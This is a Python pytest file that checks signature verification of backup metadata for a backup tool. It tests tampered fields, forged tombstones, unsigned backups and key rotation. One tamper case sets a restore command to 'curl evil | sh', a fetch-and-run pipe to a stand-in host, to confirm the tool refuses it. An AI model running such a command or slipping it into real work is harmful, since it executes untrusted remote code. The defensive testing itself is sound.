"""Signed metadata: who may write to a bucket cannot make, change or move a backup that is believed (§5.49)."""

from __future__ import annotations

import json
import shutil
import sqlite3
import subprocess
from collections.abc import Callable
from contextlib import closing
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from avalanche_backup import catalog, removal
from avalanche_backup.catalog import Damaged
from avalanche_backup.errors import (
    BackupMissing,
    CredentialsMissing,
    StorageUnavailable,
    UsageInvalid,
    VerificationFailed,
)
from avalanche_backup.metadata import MetadataInvalid
from avalanche_backup.pipeline.signing import check_signature, parse_signer
from avalanche_backup.verbs.choosing import newest
from avalanche_backup.verbs.dispatch import run
from avalanche_contract.base import Credential
from avalanche_contract.request import CleanupRequest, Newest, Retention, Rotation, Run, VerifyRequest
from avalanche_contract.result import Result
from avalanche_contract.source import SqliteSource
from avalanche_contract.storage import DirectoryStorage
from tests.integration.runs import NONCE, PREFIX, WRITER, Runner

NOW = datetime(2026, 3, 31, 2, tzinfo=UTC)
Change = Callable[[dict[str, Any]], None]


@dataclass(frozen=True)
class Key:
    """A pair of keys, as openssl makes them by the commands of docs/security.md."""

    private: Path
    public: str

    @property
    def credential(self) -> Credential:
        return Credential(described='key "signing.pem" of Secret "signing"', file=str(self.private))


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> tuple[Key, Key]:
    folder = tmp_path_factory.mktemp("keys")
    return _key(folder / "one.pem"), _key(folder / "two.pem")


@pytest.fixture
def source(tmp_path: Path) -> SqliteSource:
    with closing(sqlite3.connect(tmp_path / "db.sqlite")) as made:
        made.execute("CREATE TABLE t (n)")
        made.execute("INSERT INTO t VALUES (1)")
        made.commit()
    return SqliteSource(name="database", path=str(tmp_path / "db.sqlite"))


@pytest.fixture
def runner(tmp_path: Path, keys: tuple[Key, Key]) -> Runner:
    """Give a place where backups of the first key alone are believed."""
    return _trusting(tmp_path, keys[0].public)


def test_a_document_that_is_nested_far_too_deep_is_refused_and_no_crash() -> None:
    deep = b'{"signature": {}, "x": ' + b'{"a":' * 100_000 + b"1" + b"}" * 100_001
    with pytest.raises(MetadataInvalid, match="too deep"):
        check_signature(deep, ("key",))


def test_a_signed_backup_is_verified_and_restored_and_its_signature_needs_no_code_of_ours(
    runner: Runner, source: SqliteSource, keys: tuple[Key, Key], tmp_path: Path
) -> None:
    made = runner.backup(source, signing_key=keys[0].credential)
    assert runner.verify(made).verdict == "Succeeded"
    runner.restore(made, source)
    document = json.loads(_document(runner, made).read_bytes())
    signature = document.pop("signature")
    rest = json.dumps(document, sort_keys=True, separators=(",", ":")).encode()
    (tmp_path / "signed").write_bytes(b"avalanche-backup metadata\n" + rest)
    decoded = subprocess.run(["base64", "-d"], input=signature["value"].encode(), capture_output=True, check=True)  # fmt: skip
    (tmp_path / "value").write_bytes(decoded.stdout)
    told = subprocess.run(
        ["openssl", "pkeyutl", "-verify", "-inkey", keys[0].private, "-rawin", "-in", tmp_path / "signed", "-sigfile", tmp_path / "value"],
        capture_output=True, check=True,
    )  # fmt: skip
    assert b"Successfully" in told.stdout


CHANGES: dict[str, Change] = {
    "another time": lambda found: found.update(snapshot_time="2030-01-01T00:00:00Z"),
    "another checksum of an object": lambda found: found["artifacts"][0].update(sha256="0" * 64),
    "a larger object": lambda found: found["artifacts"][0].update(source_bytes=2**40),
    "another policy": lambda found: found["run"].update(policy_uid="another"),
    "another cluster": lambda found: found["run"].update(cluster_uid="another"),
    "another verdict": lambda found: found.update(status="suspect"),
    "another command": lambda found: found["artifacts"][0].update(restore_command="curl evil | sh"),
    "a field that nobody knows": lambda found: found.update(unknown=1),
    "another signature": lambda found: found["signature"].update(value="A" * 86 + "=="),
    "a signature that is none": lambda found: found.update(signature=None),
    "a key that is none": lambda found: found["signature"].update(key="x"),
    "no signature": lambda found: found.pop("signature"),
}


@pytest.mark.parametrize("change", CHANGES)
def test_metadata_that_was_changed_is_neither_restored_nor_listed_and_verification_says_so(
    change: str, runner: Runner, source: SqliteSource, keys: tuple[Key, Key]
) -> None:
    made = runner.backup(source, signing_key=keys[0].credential)
    before = Path(source.path).read_bytes()
    path = _document(runner, made)
    document = json.loads(path.read_bytes())
    CHANGES[change](document)
    path.write_text(json.dumps(document))
    with pytest.raises(BackupMissing) as raised:
        runner.restore(made, source)
    assert raised.value.reason == "SignatureInvalid" and "is not trusted" in raised.value.message
    with pytest.raises(VerificationFailed) as verified:
        runner.verify(made)
    assert verified.value.reason == "SignatureInvalid"
    assert [type(each) for each in catalog.backups(runner.store, PREFIX)] == [Damaged]
    assert Path(source.path).read_bytes() == before


def test_the_same_document_written_otherwise_is_as_good(
    runner: Runner, source: SqliteSource, keys: tuple[Key, Key]
) -> None:
    made = runner.backup(source, signing_key=keys[0].credential)
    path = _document(runner, made)
    path.write_text(json.dumps(dict(reversed(json.loads(path.read_bytes()).items()))))
    assert runner.verify(made).verdict == "Succeeded"


def test_a_backup_that_another_policy_signed_by_the_same_key_is_no_backup_of_this_one(
    runner: Runner, source: SqliteSource, keys: tuple[Key, Key]
) -> None:
    made = runner.backup(source, signing_key=keys[0].credential)
    root = _root(runner)
    shutil.copytree(root / PREFIX, root / "edna/another")
    with pytest.raises(BackupMissing, match="whose folder is another one"):
        catalog.find(runner.store, "edna/another/", made.backup_id or "")


def test_a_backup_under_the_name_of_another_is_none(
    runner: Runner, source: SqliteSource, keys: tuple[Key, Key]
) -> None:
    made = runner.backup(source, signing_key=keys[0].credential)
    path = _document(runner, made)
    newer = path.with_name("database_20300101_000000_metadata.json")
    shutil.copy(path, newer)
    with pytest.raises(BackupMissing):
        catalog.find(runner.store, PREFIX, "database_20300101_000000")


def test_unsigned_backups_push_no_signed_one_out_and_are_not_removed(
    runner: Runner, source: SqliteSource, keys: tuple[Key, Key], tmp_path: Path
) -> None:
    signed = _made(runner, source, 5, keys[0])
    attacker = Runner(DirectoryStorage(name="volume", root=str(_root(runner))), tmp_path / "scratch")
    forged = [_made(attacker, source, number, key) for number, key in ((4, None), (3, keys[1]), (2, None))]
    request = CleanupRequest(
        nonce=NONCE, place=runner.place, writer=WRITER, retention=Retention(keep_daily=1), max_delete_percent=100
    )  # fmt: skip
    run(request, runner.context())
    listed = {each.name for each in (_root(runner) / PREFIX / "database").glob("*_metadata.json")}
    assert listed == {f"{each.backup_id}_metadata.json" for each in (signed, *forged)}
    run(
        request.model_copy(update={"place": attacker.place}), runner.context()
    )  # without trust the newest day stays
    assert not _document(runner, signed).exists()


def test_what_lies_in_a_storage_is_listed_with_what_nobody_who_is_trusted_signed(
    runner: Runner, source: SqliteSource, keys: tuple[Key, Key], tmp_path: Path
) -> None:
    signed = _made(runner, source, 5, keys[0])
    attacker = Runner(DirectoryStorage(name="volume", root=str(_root(runner))), tmp_path / "scratch")
    forged = [_made(attacker, source, number, key) for number, key in ((4, None), (3, keys[1]))]

    def listed(**trusted: Any) -> dict[str, str]:
        attacker.reported.entries.clear()
        attacker.run_catalog(**trusted)
        return {each.backup_id: each.distrust for each in attacker.reported.entries}

    told = listed(trusted_keys={PREFIX: (keys[0].public,)})
    assert told[signed.backup_id or ""] == "" and "is not signed" in told[forged[0].backup_id or ""]
    assert "not among the trusted keys" in told[forged[1].backup_id or ""]
    assert (
        set(listed().values())
        == set(listed(trusted_keys={"edna/another/": (keys[0].public,)}).values())
        == {""}
    )
    lost = {"run_identity": attacker.metadata(forged[0]).run.identity}
    runner.reported.entries.clear()
    runner.run_catalog(**lost)
    assert runner.reported.entries == [], "a lost run is not found in what anybody could have written"


def _tombstone(runner: Runner, made: Result) -> Path:
    return _document(runner, made).with_name(f"{made.backup_id}_tombstone.json")


def _cleaned(runner: Runner, key: Key | None, days: int = 9) -> Result:
    request = CleanupRequest(
        nonce=NONCE, place=runner.place, writer=WRITER, retention=Retention(keep_daily=days), max_delete_percent=100,
        signing_key=key.credential if key else None,
    )  # fmt: skip
    return run(request, runner.context())


def _rotated(runner: Runner) -> Result:
    request = VerifyRequest(nonce=NONCE, backup=Rotation(place=runner.place, writer=WRITER))
    return run(request, runner.context())


FORGED: dict[str, Change] = {
    "unsigned": lambda found: found.pop("signature"),
    "of another backup": lambda found: found.update(backup_id="database_20300101_000000"),
    "of another folder": lambda found: found.update(prefix="edna/another/"),
    "of another time": lambda found: found.update(time="2031-01-01T00:00:00Z"),
    "signed as metadata": lambda found: found.update(signature=found["metadata"]),
}


@pytest.mark.parametrize("forgery", FORGED)
def test_a_tombstone_that_nobody_who_is_trusted_signed_hides_nothing_and_is_told_of(
    forgery: str, runner: Runner, source: SqliteSource, keys: tuple[Key, Key]
) -> None:
    made = _made(runner, source, 2, keys[0])
    signer = parse_signer(keys[0].private.read_text(), "the key")
    genuine = signer.sign_tombstone({"backup_id": made.backup_id, "prefix": PREFIX, "time": "2026-03-29T02:00:00Z",
                                     "reasons": [], "files": []})  # fmt: skip
    genuine["metadata"] = json.loads(_document(runner, made).read_bytes())["signature"]
    FORGED[forgery](genuine)
    _tombstone(runner, made).write_text(json.dumps(genuine))
    found = _rotated(runner)
    assert found.reason == "TombstonesNotTrusted" and f"not believed: {made.backup_id}" in found.message
    assert [each.backup_id for each in runner.reported.verified] == [made.backup_id], "it has its turn"
    assert newest(Newest(places=(runner.place,), writer=WRITER), NOW)[1].metadata.backup_id == made.backup_id
    cleaned = _cleaned(runner, keys[0])
    assert "not believed" in cleaned.message and _document(runner, made).exists()
    assert not _tombstone(runner, made).exists(), "it is taken away"
    assert _rotated(runner).reason == "Verified"


def test_a_backup_whose_metadata_was_taken_away_is_not_there_because_somebody_laid_a_tombstone(
    runner: Runner, source: SqliteSource, keys: tuple[Key, Key]
) -> None:
    made = _made(runner, source, 2, keys[0])
    _document(runner, made).unlink()
    _tombstone(runner, made).write_text(
        json.dumps({"backup_id": made.backup_id, "time": "2026-03-29T02:00:00Z"})
    )
    _rotated(runner)
    assert [each.backup_ids for each in runner.reported.pages] == [()]


def test_a_removal_is_signed_and_resumed_where_only_signed_ones_are_trusted(
    runner: Runner, source: SqliteSource, keys: tuple[Key, Key], monkeypatch: pytest.MonkeyPatch
) -> None:
    old, new = (_made(runner, source, days, keys[0]) for days in (5, 2))
    with monkeypatch.context() as broken:
        broken.setattr(
            removal, "_remove_rest", lambda *_: (_ for _ in ()).throw(StorageUnavailable("killed"))
        )
        with pytest.raises(StorageUnavailable):
            _cleaned(runner, keys[0], days=1)
    assert _tombstone(runner, old).exists() and not _document(runner, old).exists()
    runner.reported.decisions.clear()
    _cleaned(runner, keys[0], days=1)
    assert [each.backup_id for each in runner.reported.decisions if each.removed] == [old.backup_id]
    left = {each.name for each in _document(runner, new).parent.iterdir()}
    assert left and all(name.startswith(str(new.backup_id)) for name in left)


def test_keys_are_rotated_by_trusting_both(
    runner: Runner, source: SqliteSource, keys: tuple[Key, Key], tmp_path: Path
) -> None:
    old = runner.backup(source, signing_key=keys[0].credential)
    both = _trusting(tmp_path, keys[0].public, keys[1].public)
    new = both.backup(source, signing_key=keys[1].credential)
    assert [both.verify(each).verdict for each in (old, new)] == ["Succeeded", "Succeeded"]
    alone = _trusting(tmp_path, keys[1].public)
    assert alone.verify(new).verdict == "Succeeded"
    with pytest.raises(VerificationFailed, match="not among the trusted keys"):
        alone.verify(old)


def test_what_is_not_trusted_was_signed_all_the_same_and_can_be_read_without_trust(
    source: SqliteSource, keys: tuple[Key, Key], tmp_path: Path
) -> None:
    anyone = _trusting(tmp_path)
    made = anyone.backup(source, signing_key=keys[1].credential)
    anyone.restore(made, source)
    assert anyone.metadata(made).signature is not None


@pytest.mark.parametrize(
    "case", ["another key", "no key", "a missing file", "an age key", "a passphrase", "RSA"]
)
def test_a_key_that_would_sign_what_nobody_trusts_is_refused_before_anything_is_read(
    case: str, runner: Runner, source: SqliteSource, keys: tuple[Key, Key], tmp_path: Path
) -> None:
    wrong, file = {"described": "the signing key"}, tmp_path / "wrong.pem"
    if case == "an age key":
        file.write_text("AGE-SECRET-KEY-1SECRET")
    elif case == "a passphrase":
        _openssl("genpkey", "-algorithm", "ed25519", "-aes256", "-pass", "pass:secret", "-out", str(file))
    elif case == "RSA":
        _openssl("genpkey", "-algorithm", "RSA", "-out", str(file))
    credential = {"another key": keys[1].credential, "no key": None}.get(
        case, Credential(**wrong, file=str(file))
    )
    with pytest.raises((UsageInvalid, CredentialsMissing)) as raised:
        runner.backup(source, signing_key=credential)
    assert raised.value.reason in ("SigningKeyNotTrusted", "CredentialsMissing", "SigningKeyInvalid")
    assert "SECRET" not in raised.value.message and runner.stored() == []


def _made(runner: Runner, source: SqliteSource, days: int, key: Key | None) -> Result:
    moment = NOW - timedelta(days=days)
    context = runner.context(job_name=f"cron-{int(moment.timestamp()) // 60}", job_uid=f"job-{days}")
    signing = key.credential if key else None
    return runner.backup(source, run_of=Run(cron_job="cron"), context=context, signing_key=signing)


def _trusting(folder: Path, *trusted: str) -> Runner:
    root = folder / "volume"
    root.mkdir(exist_ok=True)
    return Runner(
        DirectoryStorage(name="volume", root=str(root), trusted_keys=trusted or None), folder / "scratch"
    )


def _root(runner: Runner) -> Path:
    assert isinstance(runner.storage, DirectoryStorage)
    return Path(runner.storage.root)


def _document(runner: Runner, made: Result) -> Path:
    return _root(runner) / PREFIX / "database" / f"{made.backup_id}_metadata.json"


def _key(file: Path) -> Key:
    _openssl("genpkey", "-algorithm", "ed25519", "-out", str(file))
    raw = _openssl("pkey", "-in", str(file), "-pubout", "-outform", "DER")[-32:]
    return Key(
        file, subprocess.run(["base64"], input=raw, capture_output=True, check=True).stdout.decode().strip()
    )


def _openssl(*arguments: str) -> bytes:
    return subprocess.run(["openssl", *arguments], capture_output=True, check=True).stdout
